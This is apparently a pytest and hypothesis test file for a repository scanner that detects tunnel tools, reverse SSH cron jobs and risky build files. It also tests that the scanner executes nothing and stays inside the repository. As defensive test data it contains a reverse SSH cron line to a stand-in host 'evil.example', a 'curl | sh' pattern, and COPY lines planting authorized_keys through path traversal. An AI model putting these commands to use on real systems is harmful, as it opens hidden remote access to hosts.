"""Whatever stands in a repository: the check ends, nothing is run, nothing outside is read, and what is wrong is told."""

import time
from pathlib import Path

import pytest
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st

from scanner.checking import builds, check, workflows
from scanner.checking.placing import Tree, placed
from scanner.checking.rules.commands import installs, urls
from scanner.checking.rules.tunnel_tool import of_url
from scanner.detectors.launchers.shell import Command
from scanner.dockerfile import parse
from scanner.errors import ScannerError
from tests.checking.repository import git, said, tracked, written

PIECES = st.sampled_from(
    """FROM|a|AS|b|\n|\\\n|RUN|COPY|ADD|--from=b|--mount=type=ssh|<<EOF|EOF|ENV|ARG|K=|$K|${K:-|}|WORKDIR|/..|CMD|["|"]|,|ONBUILD|HEALTHCHECK|
    ENTRYPOINT|SHELL|curl https://a.example/x|\\||sh|&&|"|'|`|#|apt-get install|autossh|chpasswd|>>|authorized_keys|\x00|\xff|*|?|[|../|./|~""".split(
        "|"
    )
)
TEXTS = st.lists(PIECES, max_size=60).map(" ".join)


@settings(max_examples=150, deadline=None)
@given(TEXTS)
def test_any_text_becomes_stages_whose_lines_are_the_files(text: str) -> None:
    try:
        file = parse(text, "Dockerfile")
    except ScannerError:
        return
    build = builds.read(file, text)
    for stage in build.stages:
        assert len(stage.script.split("\n")) == len(stage.starting.split("\n")) == len(build.text) + 1
        where, _ = placed(build, stage, Tree(("a", "b/c", "b/d/e")), lambda _: True)
        assert all(name in ("a", "b/c", "b/d/e") and ".." not in path.split("/") for path, name in where.items())


@settings(max_examples=8, deadline=None, suppress_health_check=[HealthCheck.function_scoped_fixture])
@given(
    st.lists(
        st.one_of(TEXTS.map(lambda t: ("FROM a\n" + t).encode("latin-1", "replace")), st.binary(max_size=300)),
        min_size=3,
        max_size=3,
    )
)
def test_no_bytes_break_the_check(tmp_path: Path, contents: list[bytes]) -> None:
    root = written(
        tmp_path, dict(zip((".git/HEAD", "Dockerfile", "x.sh", "compose.yaml"), (b"", *contents), strict=True))
    )
    report = check([root])
    for finding in report.findings:
        assert finding.source is not None
        lines = (root / finding.source.file).read_bytes().count(b"\n") + 1
        assert 1 <= finding.source.line <= lines


@settings(max_examples=100, deadline=None)
@given(
    st.lists(st.one_of(PIECES, st.sampled_from(["run:", "- run: |\n  ", ">-", "\n    ", "\t", "'"])), max_size=40).map(
        "".join
    )
)
def test_a_workflows_steps_keep_their_lines(text: str) -> None:
    lines = text.split("\n")
    made = workflows.script(text).split("\n")
    assert len(made) == len(lines)
    assert all(one in line for one, line in zip(made, lines, strict=True))


@settings(max_examples=300, deadline=None)
@given(st.lists(st.one_of(PIECES, st.text(max_size=12)), min_size=1, max_size=12))
def test_any_words_are_a_command(words: list[str]) -> None:
    command = Command((words[0] or "pip", *words[1:]), 1)
    for package in installs(command):
        assert package.name
    for url in urls(command):
        of_url(url)


def test_a_copy_reaches_nothing_outside_the_repository(tmp_path: Path) -> None:
    written(tmp_path, {"secret/authorized_keys": "ssh-ed25519 AAAA me\n", "job": "* * * * * root ssh -R 1:a:2 h\n"})
    text = "FROM a\nCOPY ../job ../../job /etc/cron.d/\nCOPY ../secret /root/.ssh\n"
    root = written(tmp_path / "r", {".git/HEAD": "", "Dockerfile": text})
    assert {rule for rule, *_ in said(check([root]))} <= {"build/key"}


@pytest.mark.parametrize(
    ("kind", "text"),
    [
        ("stages", "".join(f"FROM s{n - 1} AS s{n}\nRUN true\n" for n in range(1, 400))),
        ("copies", "FROM a\n" + "COPY * ** ?* /x/\n" * 2000),
        (
            "variables",
            "FROM a\n" + "".join(f"ENV A{n}=$A{n - 1}$A{n - 1}\n" for n in range(1, 300)) + "RUN curl $A299 | sh\n",
        ),
        ("words", "FROM a\nRUN apt-get install " + "x " * 30000 + "\n"),
        ("lines", "FROM a\nRUN true \\\n" + "  && true \\\n" * 5000 + "  && true\n"),
    ],
)
def test_large_files_take_bounded_time(tmp_path: Path, kind: str, text: str) -> None:
    root = written(tmp_path, {".git/HEAD": "", "Dockerfile": text, **{f"f{n}": "" for n in range(50)}})
    begin = time.process_time()
    check([root])
    assert time.process_time() - begin < 8, kind


def test_a_repositorys_git_configuration_runs_nothing(tmp_path: Path) -> None:
    root = tracked(written(tmp_path / "r", {"a/Dockerfile": "FROM a\nRUN apt-get install autossh\n", "b/x": "x"}))
    program = tmp_path / "program"
    program.write_text(f"#!/bin/sh\necho $0 $@ >> {tmp_path}/ran\nexit 1\n")
    program.chmod(0o755)
    for hook in ("post-index-change", "query-watchman"):
        (root / ".git/hooks").mkdir(exist_ok=True)
        (root / ".git/hooks" / hook).symlink_to(program)
    # an index that holds folders, whose objects are to be fetched from a remote of the repository's choice
    git(root, "sparse-checkout", "set", "--cone", "--sparse-index", "b")
    for name in ("core.fsmonitor", "core.sshCommand", "core.pager", "core.askPass", "alias.ls-files", "filter.x.clean"):
        git(root, "config", name, f"!{program}" if name.startswith("alias") else str(program))
    written(root, {"a/Dockerfile": "FROM a\nRUN apt-get install autossh\n"})
    for name, value in {
        "core.repositoryFormatVersion": "1",
        "extensions.partialClone": "origin",
        "remote.origin.url": "ssh://nowhere.invalid/x",
        "remote.origin.promisor": "true",
    }.items():
        git(root, "config", name, value)
    (tmp_path / "ran").unlink(missing_ok=True)
    for one in (root / ".git/objects").rglob("*"):
        if one.is_file():
            one.unlink()

    found = {(rule, file) for rule, file, *_ in said(check([root]))}

    assert not (tmp_path / "ran").exists(), (tmp_path / "ran").read_text()
    assert found == {("build/tunnel-tool", "a/Dockerfile")}


def test_no_configuration_of_git_turns_the_look_elsewhere(tmp_path: Path) -> None:
    root = tracked(written(tmp_path, {"a/Dockerfile": "FROM a\nRUN apt-get install autossh\n"}))
    git(root, "config", "core.worktree", "/usr/share")
    assert {(rule, file) for rule, file, *_ in said(check([root]))} == {("build/tunnel-tool", "a/Dockerfile")}
    git(root / "a", "init", "-q", "--bare", ".")  # a folder that git would take for a repository of its own
    git(root / "a", "config", "core.bare", "false")
    git(root / "a", "config", "core.worktree", "/usr/share")
    assert ("build/tunnel-tool", "a/Dockerfile") in {(rule, file) for rule, file, *_ in said(check([root / "a"]))}


def test_folders_that_a_walk_leaves_out_are_told(tmp_path: Path) -> None:
    root = written(tmp_path, {"x.sh": "true\n", "venv/Dockerfile": "FROM a\n", "b/node_modules/y": ""})
    [note] = check([root]).notifications
    assert note.path is not None
    assert note.path.endswith(b"/venv")
    assert "and 1 more such folders" in note.message


@pytest.mark.parametrize(
    ("name", "data", "incomplete"),
    [
        ("Dockerfile", b"FROM a\n" + b"# padding\n" * 110_000 + b"RUN apt-get install autossh\n", True),
        ("compose.yaml", b"services:\n" + b"# padding\n" * 110_000 + b"  a: {image: x, privileged: true}\n", True),
        ("compose.yaml", "services:\n  a: {image: x, privileged: true}\n".encode("utf-16"), True),
        ("k8s/pod.yml", "kind: Pod\napiVersion: v1\n".encode("utf-16"), True),
        ("docker-compose.yml", b"# \xff\nservices:\n  a: {image: x}\n", True),
        ("data.json", b"[" + b" " * (1 << 20) + b"]", False),
        ("data.yaml", b"\x00\x01\x02", False),
    ],
    ids=["large build", "large project", "wide project", "wide manifest", "broken project", "large data", "data"],
)
def test_nothing_that_builds_or_launches_is_passed_by_in_silence(
    tmp_path: Path, name: str, data: bytes, incomplete: bool
) -> None:
    report = check([written(tmp_path, {".git/HEAD": "", name: data, "x.sh": "true\n"})])
    assert report.complete != incomplete
    assert [note.path for note in report.notifications] == [name.encode()]


def test_more_stages_than_are_followed_are_told(tmp_path: Path) -> None:
    text = "FROM a AS s0\n" + "".join(f"FROM s{n - 1} AS s{n}\nRUN apt-get install -y tor\n" for n in range(1, 600))
    begin = time.process_time()
    report = check([written(tmp_path, {".git/HEAD": "", "Dockerfile": text})])
    assert [note.path for note in report.notifications if note.incomplete] == [b"Dockerfile"]
    assert time.process_time() - begin < 8


def test_no_number_of_files_and_folders_hides_the_one_behind_them(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    job = "* * * * * root ssh -N " + "-" + "R 22:localhost:22 a@evil.example\n"
    folders = {f"a{n}/rootfs/etc/x": "" for n in range(60)}
    build = "FROM a\nCOPY . /app/\nCOPY job /etc/cron.d/\n"
    root = written(
        tmp_path, {".git/HEAD": "", **folders, "z/rootfs/etc/cron.d/x": job, "job": job, "Dockerfile": build}
    )
    found = {(rule, file) for rule, file, *_ in said(check([root]))}
    assert found == {("tunnel/reverse-ssh", "job"), ("tunnel/reverse-ssh", "z/rootfs/etc/cron.d/x")}
    monkeypatch.setattr("scanner.checking.placing.PLACED", 10)
    assert not check([root]).complete
